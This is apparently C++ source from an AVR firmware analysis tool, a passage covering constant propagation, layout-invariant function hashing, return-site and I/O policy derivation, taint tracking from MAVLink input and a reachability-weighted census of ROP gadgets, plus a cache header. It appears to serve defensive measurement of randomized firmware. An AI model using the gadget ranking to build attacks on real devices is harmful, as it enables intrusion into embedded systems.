      bump_pair(s, 28, -1);
      sink.load(eval_pair(s, 28), 0);
      s.kill(rd);
      break;
    case Op::LddY:
      sink.load(eval_pair(s, 28), in.k);
      s.kill(rd);
      break;
    case Op::LdZInc:
      sink.load(eval_pair(s, 30), 0);
      bump_pair(s, 30, 1);
      s.kill(rd);
      break;
    case Op::LdZDec:
      bump_pair(s, 30, -1);
      sink.load(eval_pair(s, 30), 0);
      s.kill(rd);
      break;
    case Op::LddZ:
      sink.load(eval_pair(s, 30), in.k);
      s.kill(rd);
      break;
    case Op::StX:
      sink.store(eval_pair(s, 26), 0);
      break;
    case Op::StXInc:
      sink.store(eval_pair(s, 26), 0);
      bump_pair(s, 26, 1);
      break;
    case Op::StXDec: {
      bump_pair(s, 26, -1);
      // A pre-decrement can step a RamHigh pointer from exactly 0x200
      // down into extended I/O, so only Const/Stack survive as proofs.
      const PtrVal p = eval_pair(s, 26);
      sink.store(p.cls == PtrClass::kRamHigh ? PtrVal{} : p, 0);
      break;
    }
    case Op::StYInc:
      sink.store(eval_pair(s, 28), 0);
      bump_pair(s, 28, 1);
      break;
    case Op::StYDec: {
      bump_pair(s, 28, -1);
      const PtrVal p = eval_pair(s, 28);
      sink.store(p.cls == PtrClass::kRamHigh ? PtrVal{} : p, 0);
      break;
    }
    case Op::StdY:
      sink.store(eval_pair(s, 28), in.k);
      break;
    case Op::StZInc:
      sink.store(eval_pair(s, 30), 0);
      bump_pair(s, 30, 1);
      break;
    case Op::StZDec: {
      bump_pair(s, 30, -1);
      const PtrVal p = eval_pair(s, 30);
      sink.store(p.cls == PtrClass::kRamHigh ? PtrVal{} : p, 0);
      break;
    }
    case Op::StdZ:
      sink.store(eval_pair(s, 30), in.k);
      break;
    case Op::LpmR0:
    case Op::ElpmR0:
      s.kill(0);
      break;
    case Op::Lpm:
    case Op::Elpm:
      s.kill(rd);
      break;
    case Op::LpmInc:
    case Op::ElpmInc:
      s.kill(rd);
      bump_pair(s, 30, 1);
      break;
    case Op::Pop:
      s.kill(rd);
      break;
    case Op::Push:
      break;
    case Op::Bset:
      if (in.bit == 0) s.set_carry(1);  // SREG bit 0 is C
      break;
    case Op::Bclr:
      if (in.bit == 0) s.set_carry(0);
      break;
    case Op::Bld:
      s.kill(rd);
      break;
    case Op::Bst:
      break;
    case Op::Call:
    case Op::Rcall:
    case Op::Icall:
    case Op::Eicall:
      clobber_call(s);
      break;
    // Terminators and no-ops: no register effects tracked.
    case Op::Rjmp: case Op::Jmp: case Op::Ijmp: case Op::Eijmp:
    case Op::Ret: case Op::Reti: case Op::Brbs: case Op::Brbc:
    case Op::Cpse: case Op::Sbrc: case Op::Sbrs:
    case Op::Nop: case Op::Sleep: case Op::Break: case Op::Wdr:
    case Op::Spm: case Op::Invalid:
      break;
    default:
      // Anything unanticipated: forget its destination and the carry.
      s.kill(rd);
      s.kill_carry();
      break;
  }
}

void run_constprop(std::span<const std::uint8_t> body, const RegionCfg& cfg,
                   FuncRecord& rec) {
  FactSink sink{&rec};
  AbsState state;
  for (const BasicBlock& block : cfg.blocks) {
    state.reset();  // leaders may be reached from anywhere: assume nothing
    std::uint32_t pos = block.start;
    while (pos + 2 <= block.end) {
      const std::uint16_t w1 = support::load_u16_le(body, pos);
      const std::uint16_t w2 = (pos + 4 <= static_cast<std::uint32_t>(
                                               body.size()))
                                   ? support::load_u16_le(body, pos + 2)
                                   : 0;
      const avr::Instr in = avr::decode(w1, w2);
      step(state, in, sink);
      pos += in.size_words * 2u;
    }
  }
  sort_unique(rec.ram_stores);
  sort_unique(rec.ram_loads);
}

}  // namespace

// --- FuncIndex --------------------------------------------------------------

FuncIndex::FuncIndex(std::span<const std::uint32_t> addrs,
                     std::span<const std::uint32_t> sizes)
    : addrs_(addrs.begin(), addrs.end()), sizes_(sizes.begin(), sizes.end()) {
  MAVR_REQUIRE(addrs_.size() == sizes_.size(),
               "address/size arrays must be parallel");
  order_.resize(addrs_.size());
  for (std::uint32_t i = 0; i < order_.size(); ++i) order_[i] = i;
  std::sort(order_.begin(), order_.end(),
            [&](std::uint32_t a, std::uint32_t b) {
              return addrs_[a] < addrs_[b];
            });
}

int FuncIndex::containing(std::int64_t byte_addr,
                          std::uint32_t* offset_out) const {
  if (byte_addr < 0) return -1;
  const std::uint32_t addr = static_cast<std::uint32_t>(byte_addr);
  const auto it = std::upper_bound(
      order_.begin(), order_.end(), addr,
      [&](std::uint32_t a, std::uint32_t i) { return a < addrs_[i]; });
  if (it == order_.begin()) return -1;
  const std::uint32_t i = *(it - 1);
  if (addr >= addrs_[i] + sizes_[i]) return -1;
  if (offset_out != nullptr) *offset_out = addr - addrs_[i];
  return static_cast<int>(i);
}

// --- FuncRecord wire form ---------------------------------------------------

namespace {

void put_bitset(support::ByteWriter& w, const detect::IoBitset& bits) {
  for (std::uint64_t word : bits) {
    w.u32_le(static_cast<std::uint32_t>(word & 0xFFFFFFFFu));
    w.u32_le(static_cast<std::uint32_t>(word >> 32));
  }
}

detect::IoBitset get_bitset(support::ByteReader& r) {
  detect::IoBitset bits{};
  for (std::uint64_t& word : bits) {
    const std::uint64_t lo = r.u32_le();
    const std::uint64_t hi = r.u32_le();
    word = lo | (hi << 32);
  }
  return bits;
}

constexpr std::uint32_t kMaxRecordItems = 1u << 20;

std::uint32_t get_count(support::ByteReader& r) {
  const std::uint32_t n = r.u32_le();
  MAVR_REQUIRE(n <= kMaxRecordItems, "analysis record count implausible");
  return n;
}

}  // namespace

support::Bytes FuncRecord::serialize() const {
  support::Bytes out;
  support::ByteWriter w(out);
  w.u32_le(size);
  w.u32_le(n_blocks);
  w.u32_le(n_edges);
  w.u8(indirect_jump_sites);
  w.u8(open_ended);
  w.u8(io_unbounded);
  put_bitset(w, io_writes);
  put_bitset(w, io_reads);
  w.u32_le(static_cast<std::uint32_t>(calls.size()));
  for (const FuncCall& c : calls) {
    w.u32_le(c.offset);
    w.u32_le(c.ret_offset);
    w.u8(c.indirect);
    w.u32_le(static_cast<std::uint32_t>(c.callee));
    w.u32_le(c.callee_offset);
  }
  w.u32_le(static_cast<std::uint32_t>(tail_jumps.size()));
  for (const FuncTailJump& t : tail_jumps) {
    w.u32_le(t.offset);
    w.u32_le(static_cast<std::uint32_t>(t.callee));
    w.u32_le(t.callee_offset);
  }
  w.u32_le(static_cast<std::uint32_t>(ram_stores.size()));
  for (std::uint16_t a : ram_stores) w.u16_le(a);
  w.u32_le(static_cast<std::uint32_t>(ram_loads.size()));
  for (std::uint16_t a : ram_loads) w.u16_le(a);
  w.u32_le(static_cast<std::uint32_t>(gadgets.size()));
  for (const FuncGadget& g : gadgets) {
    w.u32_le(g.offset);
    w.u8(static_cast<std::uint8_t>(g.kind));
    w.u8(g.pop_count);
  }
  w.u32_le(census.ret_gadgets);
  w.u32_le(census.stk_move_gadgets);
  w.u32_le(census.write_mem_gadgets);
  w.u32_le(census.pop_chain_gadgets);
  return out;
}

FuncRecord FuncRecord::deserialize(std::span<const std::uint8_t> data) {
  support::ByteReader r(data);
  FuncRecord rec;
  rec.size = r.u32_le();
  rec.n_blocks = r.u32_le();
  rec.n_edges = r.u32_le();
  rec.indirect_jump_sites = r.u8();
  rec.open_ended = r.u8();
  rec.io_unbounded = r.u8();
  rec.io_writes = get_bitset(r);
  rec.io_reads = get_bitset(r);
  const std::uint32_t n_calls = get_count(r);
  rec.calls.reserve(n_calls);
  for (std::uint32_t i = 0; i < n_calls; ++i) {
    FuncCall c;
    c.offset = r.u32_le();
    c.ret_offset = r.u32_le();
    c.indirect = r.u8();
    c.callee = static_cast<std::int32_t>(r.u32_le());
    c.callee_offset = r.u32_le();
    rec.calls.push_back(c);
  }
  const std::uint32_t n_tails = get_count(r);
  rec.tail_jumps.reserve(n_tails);
  for (std::uint32_t i = 0; i < n_tails; ++i) {
    FuncTailJump t;
    t.offset = r.u32_le();
    t.callee = static_cast<std::int32_t>(r.u32_le());
    t.callee_offset = r.u32_le();
    rec.tail_jumps.push_back(t);
  }
  const std::uint32_t n_stores = get_count(r);
  rec.ram_stores.reserve(n_stores);
  for (std::uint32_t i = 0; i < n_stores; ++i) {
    rec.ram_stores.push_back(r.u16_le());
  }
  const std::uint32_t n_loads = get_count(r);
  rec.ram_loads.reserve(n_loads);
  for (std::uint32_t i = 0; i < n_loads; ++i) {
    rec.ram_loads.push_back(r.u16_le());
  }
  const std::uint32_t n_gadgets = get_count(r);
  rec.gadgets.reserve(n_gadgets);
  for (std::uint32_t i = 0; i < n_gadgets; ++i) {
    FuncGadget g;
    g.offset = r.u32_le();
    g.kind = static_cast<attack::GadgetKind>(r.u8());
    g.pop_count = r.u8();
    rec.gadgets.push_back(g);
  }
  rec.census.ret_gadgets = r.u32_le();
  rec.census.stk_move_gadgets = r.u32_le();
  rec.census.write_mem_gadgets = r.u32_le();
  rec.census.pop_chain_gadgets = r.u32_le();
  MAVR_REQUIRE(r.done(), "trailing bytes after analysis record");
  return rec;
}

// --- Canonical hashing ------------------------------------------------------

support::Sha256Digest canonical_function_digest(
    std::span<const std::uint8_t> image, std::uint32_t addr,
    std::uint32_t size, const FuncIndex& index,
    std::span<const toolchain::PointerSlot> slots) {
  MAVR_REQUIRE(std::uint64_t{addr} + size <= image.size(),
               "function range outside the image");
  // Hot path of a cache hit (one call per function per image) — reuse the
  // working buffers across calls instead of reallocating.
  static thread_local support::Bytes scratch;
  static thread_local support::Bytes meta;
  scratch.assign(image.begin() + addr, image.begin() + addr + size);
  meta.clear();
  support::ByteWriter mw(meta);
  mw.u32_le(size);
  // One linear walk with real instruction boundaries (is_two_word is a
  // bit test, not a decode): JMP/CALL opcodes are recognized by their
  // fixed bits (1001 010k kkkk 11xk), the only words the randomizer
  // patches inside code. Their 22-bit targets are masked out of the
  // hashed bytes and re-expressed as (callee index, offset), which is
  // identical across permutations.
  std::uint32_t pos = 0;
  while (pos + 2 <= size) {
    const std::uint16_t w1 = support::load_u16_le(image, addr + pos);
    const bool two = avr::is_two_word(w1);
    if (two && pos + 4 > size) break;  // straddles the end: keep raw bytes
    if ((w1 & 0xFE0E) == 0x940C || (w1 & 0xFE0E) == 0x940E) {
      const std::uint16_t w2 = support::load_u16_le(image, addr + pos + 2);
      const avr::Instr in = avr::decode(w1, w2);
      const std::int64_t target = std::int64_t{in.target} * 2;
      std::uint32_t off = 0;
      const int callee = index.containing(target, &off);
      support::store_u16_le(scratch, pos,
                            static_cast<std::uint16_t>(w1 & ~0x01F1));
      support::store_u16_le(scratch, pos + 2, 0);
      mw.u32_le(pos);
      mw.u32_le(static_cast<std::uint32_t>(callee));
      mw.u32_le(callee >= 0 ? off : static_cast<std::uint32_t>(target));
    }
    pos += two ? 4 : 2;
  }
  // Pointer slots inside the function body (none in generated firmware,
  // where tables live in the data-init region — handled for generality):
  // the stored word address moves with its target, so mask the bytes and
  // append the resolved identity instead.
  for (const toolchain::PointerSlot& slot : slots) {
    if (slot.image_offset < addr ||
        std::uint64_t{slot.image_offset} + slot.width > addr + size) {
      continue;
    }
    std::uint32_t value = 0;
    for (unsigned i = 0; i < slot.width; ++i) {
      value |= static_cast<std::uint32_t>(image[slot.image_offset + i])
               << (8 * i);
    }
    const std::int64_t target = std::int64_t{value} * 2;
    std::uint32_t off = 0;
    const int callee = index.containing(target, &off);
    for (unsigned i = 0; i < slot.width; ++i) {
      scratch[slot.image_offset - addr + i] = 0;
    }
    mw.u32_le(slot.image_offset - addr);
    mw.u8(slot.width);
    mw.u32_le(static_cast<std::uint32_t>(callee));
    mw.u32_le(callee >= 0 ? off : static_cast<std::uint32_t>(target));
  }
  support::Sha256 h;
  h.update(scratch);
  h.update(meta);
  return h.finish();
}

// --- Per-function analysis --------------------------------------------------

FuncRecord analyze_function(std::span<const std::uint8_t> body,
                            std::uint32_t addr, const FuncIndex& index) {
  FuncRecord rec;
  rec.size = static_cast<std::uint32_t>(body.size());
  const RegionCfg cfg = build_region_cfg(body, addr);
  rec.n_blocks = static_cast<std::uint32_t>(cfg.blocks.size());
  rec.n_edges = cfg.n_edges();
  rec.indirect_jump_sites = static_cast<std::uint8_t>(
      std::min<std::size_t>(cfg.indirect_jumps.size(), 255));
  for (const BasicBlock& b : cfg.blocks) {
    if (b.end_kind == BlockEnd::kFallsOffEnd ||
        b.end_kind == BlockEnd::kTruncated) {
      rec.open_ended = 1;
    }
  }
  for (const CallSite& c : cfg.calls) {
    FuncCall fc;
    fc.offset = c.offset;
    fc.ret_offset = c.ret_offset;
    fc.indirect = c.indirect ? 1 : 0;
    if (!c.indirect) {
      std::uint32_t off = 0;
      fc.callee = index.containing(c.target, &off);
      fc.callee_offset =
          fc.callee >= 0
              ? off
              : static_cast<std::uint32_t>(std::max<std::int64_t>(c.target, 0));
    }
    rec.calls.push_back(fc);
  }
  for (const JumpOut& j : cfg.jumps_out) {
    FuncTailJump tj;
    tj.offset = j.offset;
    std::uint32_t off = 0;
    tj.callee = index.containing(j.target, &off);
    tj.callee_offset =
        tj.callee >= 0
            ? off
            : static_cast<std::uint32_t>(std::max<std::int64_t>(j.target, 0));
    rec.tail_jumps.push_back(tj);
  }
  run_constprop(body, cfg, rec);
  const attack::GadgetFinder finder(body, rec.size);
  rec.census = finder.census();
  rec.gadgets.reserve(finder.sites().size());
  for (const attack::GadgetSite& site : finder.sites()) {
    rec.gadgets.push_back({site.byte_addr, site.kind, site.pop_count});
  }
  return rec;
}

// --- Whole-image analysis ---------------------------------------------------

AnalysisReport Analyzer::analyze(std::span<const std::uint8_t> image,
                                 const toolchain::SymbolBlob& blob) const {
  const std::size_t n = blob.function_addrs.size();
  MAVR_REQUIRE(blob.function_sizes.size() == n,
               "blob address/size arrays must be parallel");
  const FuncIndex index(blob.function_addrs, blob.function_sizes);

  AnalysisReport rep;
  rep.image_digest = support::sha256(image);
  rep.text_end = blob.text_end;
  rep.n_functions = static_cast<std::uint32_t>(n);

  // Per-function records: canonical digest first, cold analysis only on a
  // cache miss. A rerandomized image hits on every function. The decoded_
  // memo sits in front of the byte-level cache so repeat encounters of a
  // digest skip deserialization too; entries are stable (node-based map),
  // so recs can hold pointers for the aggregate passes below.
  std::vector<const FuncRecord*> recs;
  recs.reserve(n);
  for (std::size_t i = 0; i < n; ++i) {
    const std::uint32_t addr = blob.function_addrs[i];
    const std::uint32_t size = blob.function_sizes[i];
    const support::Sha256Digest digest = canonical_function_digest(
        image, addr, size, index, blob.pointer_slots);
    if (const auto memo = decoded_.find(digest); memo != decoded_.end()) {
      recs.push_back(&memo->second);
      ++rep.cache_hits;
      continue;
    }
    const support::Bytes* hit =
        cache_ != nullptr ? cache_->lookup(digest) : nullptr;
    if (hit != nullptr) {
      const auto it =
          decoded_.emplace(digest, FuncRecord::deserialize(*hit)).first;
      recs.push_back(&it->second);
      ++rep.cache_hits;
    } else {
      FuncRecord rec =
          analyze_function(image.subspan(addr, size), addr, index);
      if (cache_ != nullptr) cache_->insert(digest, rec.serialize());
      const auto it = decoded_.emplace(digest, std::move(rec)).first;
      recs.push_back(&it->second);
      ++rep.cache_misses;
    }
  }

  // Address-taken functions: every target a pointer slot currently holds.
  std::vector<std::uint8_t> addr_taken(n, 0);
  for (const toolchain::PointerSlot& slot : blob.pointer_slots) {
    if (std::uint64_t{slot.image_offset} + slot.width > image.size()) continue;
    std::uint32_t value = 0;
    for (unsigned b = 0; b < slot.width; ++b) {
      value |= static_cast<std::uint32_t>(image[slot.image_offset + b])
               << (8 * b);
    }
    std::uint32_t off = 0;
    const int idx = index.containing(std::int64_t{value} * 2, &off);
    if (idx >= 0) addr_taken[static_cast<std::size_t>(idx)] = 1;
  }
  rep.address_taken = static_cast<std::uint32_t>(
      std::count(addr_taken.begin(), addr_taken.end(), 1));

  for (const FuncRecord* rec : recs) {
    rep.n_blocks += rec->n_blocks;
    rep.n_edges += rec->n_edges;
    rep.indirect_jump_sites += rec->indirect_jump_sites;
    for (const FuncCall& c : rec->calls) {
      if (c.indirect) {
        ++rep.indirect_call_sites;
      } else if (c.callee >= 0) {
        ++rep.call_edges;
      }
    }
  }

  // Degrade to generic semantics when the analysis cannot be
  // layout-stable: materialized code pointers the randomizer refuses
  // anyway, or a function whose control flow runs off its own end (what
  // follows it changes with every permutation).
  bool degrade = blob.has_ldi_code_pointers;
  for (const FuncRecord* rec : recs) degrade = degrade || rec->open_ended != 0;

  // Return-edge policy: every direct call contributes its successor to
  // the callee's site set; indirect call sites contribute to every
  // address-taken function; tail jumps (and indirect jumps that may land
  // in address-taken code) share the jumper's sites with the landing
  // function, closed to a fixed point.
  rep.policy.functions.resize(n);
  std::vector<detect::PolicyRetSite> indirect_sites;
  for (std::size_t g = 0; g < n; ++g) {
    for (const FuncCall& c : recs[g]->calls) {
      if (c.indirect) {
        indirect_sites.push_back(
            {static_cast<std::uint32_t>(g), c.ret_offset});
      } else if (c.callee >= 0) {
        rep.policy.functions[static_cast<std::size_t>(c.callee)]
            .ret_sites.push_back(
                {static_cast<std::uint32_t>(g), c.ret_offset});
      }
    }
  }
  for (std::size_t f = 0; f < n; ++f) {
    if (!addr_taken[f]) continue;
    auto& sites = rep.policy.functions[f].ret_sites;
    sites.insert(sites.end(), indirect_sites.begin(), indirect_sites.end());
  }
  std::vector<std::pair<std::uint32_t, std::uint32_t>> share_edges;
  for (std::size_t g = 0; g < n; ++g) {
    for (const FuncTailJump& t : recs[g]->tail_jumps) {
      if (t.callee >= 0 && static_cast<std::size_t>(t.callee) != g) {
        share_edges.push_back({static_cast<std::uint32_t>(g),
                               static_cast<std::uint32_t>(t.callee)});
      }
    }
    if (recs[g]->indirect_jump_sites > 0) {
      for (std::size_t f = 0; f < n; ++f) {
        if (addr_taken[f] && f != g) {
          share_edges.push_back({static_cast<std::uint32_t>(g),
                                 static_cast<std::uint32_t>(f)});
        }
      }
    }
  }
  const auto canon_sites = [](std::vector<detect::PolicyRetSite>& v) {
    std::sort(v.begin(), v.end(),
              [](const detect::PolicyRetSite& a,
                 const detect::PolicyRetSite& b) {
                return a.caller_index != b.caller_index
                           ? a.caller_index < b.caller_index
                           : a.offset < b.offset;
              });
    v.erase(std::unique(v.begin(), v.end()), v.end());
  };
  for (auto& fp : rep.policy.functions) canon_sites(fp.ret_sites);
  bool changed = true;
  while (changed) {
    changed = false;
    for (const auto& [from, to] : share_edges) {
      auto& src = rep.policy.functions[from].ret_sites;
      auto& dst = rep.policy.functions[to].ret_sites;
      const std::size_t before = dst.size();
      dst.insert(dst.end(), src.begin(), src.end());
      canon_sites(dst);
      changed = changed || dst.size() != before;
    }
  }

  // I/O privilege policy straight from the per-function facts.
  for (std::size_t i = 0; i < n; ++i) {
    detect::FuncPolicy& fp = rep.policy.functions[i];
    fp.io_allow = recs[i]->io_writes;
    fp.io_unbounded = degrade || recs[i]->io_unbounded != 0;
    fp.ret_unbounded = degrade;
    if (!fp.io_unbounded) ++rep.io_bounded;
    if (!fp.ret_unbounded) ++rep.ret_bounded;
  }

  // Taint: BFS from the functions that read a MAVLink RX register, over
  // call edges, tail jumps, indirect dispatch into address-taken code,
  // and RAM def/use pairs (a provable store in one function read by a
  // provable load in another).
  std::vector<std::vector<std::uint32_t>> out_edges(n);
  // (address, reader) pairs, sorted by address: ram_loads are sorted per
  // record and g ascends, so the pairs come out ordered — no map needed.
  std::vector<std::pair<std::uint16_t, std::uint32_t>> ram_readers;
  for (std::size_t g = 0; g < n; ++g) {
    bool has_indirect_call = false;
    for (const FuncCall& c : recs[g]->calls) {
      if (c.indirect) {
        has_indirect_call = true;
      } else if (c.callee >= 0) {
        out_edges[g].push_back(static_cast<std::uint32_t>(c.callee));
      }
    }
    if (has_indirect_call) {
      for (std::size_t f = 0; f < n; ++f) {
        if (addr_taken[f]) {
          out_edges[g].push_back(static_cast<std::uint32_t>(f));
        }
      }
    }
    for (const FuncTailJump& t : recs[g]->tail_jumps) {
      if (t.callee >= 0) {
        out_edges[g].push_back(static_cast<std::uint32_t>(t.callee));
      }
    }
    for (std::uint16_t a : recs[g]->ram_loads) {
      ram_readers.push_back({a, static_cast<std::uint32_t>(g)});
    }
  }
  std::sort(ram_readers.begin(), ram_readers.end());
  rep.taint_depth.assign(n, -1);
  std::deque<std::uint32_t> queue;
  for (std::size_t i = 0; i < n; ++i) {
    bool source = false;
    for (std::uint16_t src : options_.taint_sources) {
      if (src < detect::kPolicyIoSpan) {
        source = source || detect::io_bit_test(recs[i]->io_reads, src);
      } else {
        source = source || std::binary_search(recs[i]->ram_loads.begin(),
                                              recs[i]->ram_loads.end(), src);
      }
    }
    if (source) {
      rep.taint_depth[i] = 0;
      queue.push_back(static_cast<std::uint32_t>(i));
    }
  }
  // The RAM def/use pairs are a writers×readers cross product per address;
  // materializing those edges is quadratic in the fan-in/fan-out of hot
  // globals. BFS depths don't need them: the first *dequeued* writer of an
  // address has the minimal depth of any tainted writer, so propagating an
  // address once — to every reader, when that first writer is processed —
  // yields the same shortest-path depths in linear work.
  std::set<std::uint16_t> ram_spread;
  while (!queue.empty()) {
    const std::uint32_t g = queue.front();
    queue.pop_front();
    const auto visit = [&](std::uint32_t f) {
      if (rep.taint_depth[f] < 0) {
        rep.taint_depth[f] = rep.taint_depth[g] + 1;
        queue.push_back(f);
      }
    };
    for (std::uint32_t f : out_edges[g]) visit(f);
    for (std::uint16_t a : recs[g]->ram_stores) {
      if (!ram_spread.insert(a).second) continue;
      auto it = std::lower_bound(
          ram_readers.begin(), ram_readers.end(),
          std::pair<std::uint16_t, std::uint32_t>{a, 0});
      for (; it != ram_readers.end() && it->first == a; ++it) {
        if (it->second != g) visit(it->second);
      }
    }
  }
  rep.tainted_functions = static_cast<std::uint32_t>(
      std::count_if(rep.taint_depth.begin(), rep.taint_depth.end(),
                    [](std::int32_t d) { return d >= 0; }));

  // Weighted gadget census: per-function sites inherit their function's
  // taint depth; the inter-function gaps (padding, erased-flash slack in
  // randomized layouts) are scanned fresh and count as unreachable. The
  // partition equals a whole-image GadgetFinder sweep (pinned by test).
  const auto add_gadget = [&](std::uint32_t byte_addr,
                              const FuncGadget& g, std::int32_t func) {
    RankedGadget rg;
    rg.byte_addr = byte_addr;
    rg.kind = g.kind;
    rg.pop_count = g.pop_count;
    rg.func = func;
    rg.depth = func >= 0 ? rep.taint_depth[static_cast<std::size_t>(func)]
                         : -1;
    rg.weight = rg.depth >= 0 ? 1.0 / (1.0 + rg.depth) : 0.0;
    rep.gadgets.push_back(rg);
  };
  for (std::size_t i = 0; i < n; ++i) {
    rep.census.ret_gadgets += recs[i]->census.ret_gadgets;
    rep.census.stk_move_gadgets += recs[i]->census.stk_move_gadgets;
    rep.census.write_mem_gadgets += recs[i]->census.write_mem_gadgets;
    rep.census.pop_chain_gadgets += recs[i]->census.pop_chain_gadgets;
    for (const FuncGadget& g : recs[i]->gadgets) {
      add_gadget(blob.function_addrs[i] + g.offset, g,
                 static_cast<std::int32_t>(i));
    }
  }
  const auto scan_gap = [&](std::uint32_t lo, std::uint32_t hi) {
    if (hi <= lo || hi > image.size()) return;
    const attack::GadgetFinder finder(image.subspan(lo, hi - lo), hi - lo);
    const attack::GadgetCensus& c = finder.census();
    rep.census.ret_gadgets += c.ret_gadgets;
    rep.census.stk_move_gadgets += c.stk_move_gadgets;
    rep.census.write_mem_gadgets += c.write_mem_gadgets;
    rep.census.pop_chain_gadgets += c.pop_chain_gadgets;
    for (const attack::GadgetSite& site : finder.sites()) {
      add_gadget(lo + site.byte_addr,
                 FuncGadget{site.byte_addr, site.kind, site.pop_count}, -1);
    }
  };
  std::uint32_t cursor = 0;
  for (const std::uint32_t i : index.by_address()) {
    scan_gap(cursor, blob.function_addrs[i]);
    cursor = std::max(cursor, blob.function_addrs[i] +
                                  blob.function_sizes[i]);
  }
  scan_gap(cursor, blob.text_end);
  std::sort(rep.gadgets.begin(), rep.gadgets.end(),
            [](const RankedGadget& a, const RankedGadget& b) {
              return a.byte_addr != b.byte_addr
                         ? a.byte_addr < b.byte_addr
                         : static_cast<int>(a.kind) < static_cast<int>(b.kind);
            });
  for (const RankedGadget& g : rep.gadgets) {
    rep.weighted_total += g.weight;
    switch (g.kind) {
      case attack::GadgetKind::kRet: rep.weighted_ret += g.weight; break;
      case attack::GadgetKind::kStkMove:
        rep.weighted_stk_move += g.weight;
        break;
      case attack::GadgetKind::kWriteMem:
        rep.weighted_write_mem += g.weight;
        break;
    }
  }
  return rep;
}

Analyzer::Analyzer(AnalysisCache* cache, AnalyzeOptions options)
    : cache_(cache), options_(std::move(options)) {}

// --- Reports ----------------------------------------------------------------

namespace {

std::string hex_digest(const support::Sha256Digest& digest) {
  std::string out;
  out.reserve(64);
  for (std::uint8_t b : digest) out += fmt("%02x", b);
  return out;
}

}  // namespace

std::string report_text(const AnalysisReport& rep) {
  std::string out;
  out += fmt("image sha256=%s text_end=0x%x\n",
             hex_digest(rep.image_digest).c_str(), rep.text_end);
  out += fmt(
      "cfg functions=%u blocks=%u edges=%u call_edges=%u icall_sites=%u "
      "ijmp_sites=%u address_taken=%u\n",
      rep.n_functions, rep.n_blocks, rep.n_edges, rep.call_edges,
      rep.indirect_call_sites, rep.indirect_jump_sites, rep.address_taken);
  out += fmt("census ret=%u stk_move=%u write_mem=%u pop_chain=%u total=%u\n",
             rep.census.ret_gadgets, rep.census.stk_move_gadgets,
             rep.census.write_mem_gadgets, rep.census.pop_chain_gadgets,
             rep.census.total());
  out += fmt(
      "weighted total=%.6f ret=%.6f stk_move=%.6f write_mem=%.6f\n",
      rep.weighted_total, rep.weighted_ret, rep.weighted_stk_move,
      rep.weighted_write_mem);
  out += fmt("taint sources_reach=%u of %u functions\n",
             rep.tainted_functions, rep.n_functions);
  out += fmt("policy io_bounded=%u ret_bounded=%u\n", rep.io_bounded,
             rep.ret_bounded);
  for (std::size_t i = 0; i < rep.policy.functions.size(); ++i) {
    const detect::FuncPolicy& fp = rep.policy.functions[i];
    out += fmt("func %zu depth=%d io=%s ret_sites=%zu%s\n", i,
               i < rep.taint_depth.size() ? rep.taint_depth[i] : -1,
               fp.io_unbounded
                   ? "unbounded"
                   : fmt("%u", detect::io_bit_count(fp.io_allow)).c_str(),
               fp.ret_sites.size(), fp.ret_unbounded ? " (unbounded)" : "");
  }
  for (const RankedGadget& g : rep.gadgets) {
    out += fmt("gadget 0x%x kind=%s pops=%u func=%d depth=%d weight=%.6f\n",
               g.byte_addr, attack::gadget_kind_name(g.kind), g.pop_count,
               g.func, g.depth, g.weight);
  }
  return out;
}

std::string report_json(const AnalysisReport& rep) {
  std::string out = "{\n";
  out += fmt("  \"image_sha256\": \"%s\",\n",
             hex_digest(rep.image_digest).c_str());
  out += fmt("  \"text_end\": %u,\n", rep.text_end);
  out += fmt("  \"functions\": %u,\n", rep.n_functions);
  out += fmt("  \"blocks\": %u,\n", rep.n_blocks);
  out += fmt("  \"edges\": %u,\n", rep.n_edges);
  out += fmt("  \"call_edges\": %u,\n", rep.call_edges);
  out += fmt("  \"icall_sites\": %u,\n", rep.indirect_call_sites);
  out += fmt("  \"ijmp_sites\": %u,\n", rep.indirect_jump_sites);
  out += fmt("  \"address_taken\": %u,\n", rep.address_taken);
  out += fmt(
      "  \"census\": {\"ret\": %u, \"stk_move\": %u, \"write_mem\": %u, "
      "\"pop_chain\": %u, \"total\": %u},\n",
      rep.census.ret_gadgets, rep.census.stk_move_gadgets,
      rep.census.write_mem_gadgets, rep.census.pop_chain_gadgets,
      rep.census.total());
  out += fmt(
      "  \"weighted\": {\"total\": %.6f, \"ret\": %.6f, \"stk_move\": %.6f, "
      "\"write_mem\": %.6f},\n",
      rep.weighted_total, rep.weighted_ret, rep.weighted_stk_move,
      rep.weighted_write_mem);
  out += fmt("  \"tainted_functions\": %u,\n", rep.tainted_functions);
  out += fmt("  \"io_bounded\": %u,\n", rep.io_bounded);
  out += fmt("  \"ret_bounded\": %u,\n", rep.ret_bounded);
  out += fmt("  \"cache_hits\": %llu,\n",
             static_cast<unsigned long long>(rep.cache_hits));
  out += fmt("  \"cache_misses\": %llu,\n",
             static_cast<unsigned long long>(rep.cache_misses));
  out += "  \"gadgets\": [";
  for (std::size_t i = 0; i < rep.gadgets.size(); ++i) {
    const RankedGadget& g = rep.gadgets[i];
    out += fmt(
        "%s\n    {\"addr\": %u, \"kind\": \"%s\", \"pops\": %u, "
        "\"func\": %d, \"depth\": %d, \"weight\": %.6f}",
        i == 0 ? "" : ",", g.byte_addr, attack::gadget_kind_name(g.kind),
        g.pop_count, g.func, g.depth, g.weight);
  }
  out += "\n  ]\n}\n";
  return out;
}

}  // namespace mavr::analysis
