// Content-addressed analysis cache (DESIGN.md §15).
//
// The analysis plane keys every unit of work by a SHA-256 digest of its
// *canonical* input bytes — for a whole image the raw image contents, for
// a single function the permutation-invariant form produced by
// analysis::canonical_function_digest. Rerandomized images therefore hit
// the cache block-by-block: every function's canonical bytes are identical
// across permutations even though its address and every CALL/JMP target
// word changed.
//
// On-disk format is an append-only record stream, one frame per entry:
//
//   [u32 len][u32 crc32(payload)][payload]
//   payload = [u8 version][32-byte digest][record bytes]
//
// the same defensive framing the campaign checkpoint store uses: a torn
// tail (partial append at crash) or a corrupt record (bit rot, concurrent
// writer) fails the CRC or the length check, loading stops at the last
// good frame, and the analysis simply recomputes what is missing. A cache
// can never make results wrong — only slower or faster.
#pragma once

#include <cstdint>
#include <fstream>
#include <map>
#include <string>

#include "support/bytes.hpp"
#include "support/sha256.hpp"

namespace mavr::analysis {

/// Load-time accounting, mostly for tests and the bench harness.
struct CacheLoadStats {
  std::uint64_t records_loaded = 0;
  std::uint64_t bytes_loaded = 0;
  /// Frames dropped at load: CRC mismatch, bad length, short payload,
  /// or an unknown version byte. Loading stops at the first bad frame —
  /// framing is unrecoverable past it.
  std::uint64_t records_rejected = 0;
};

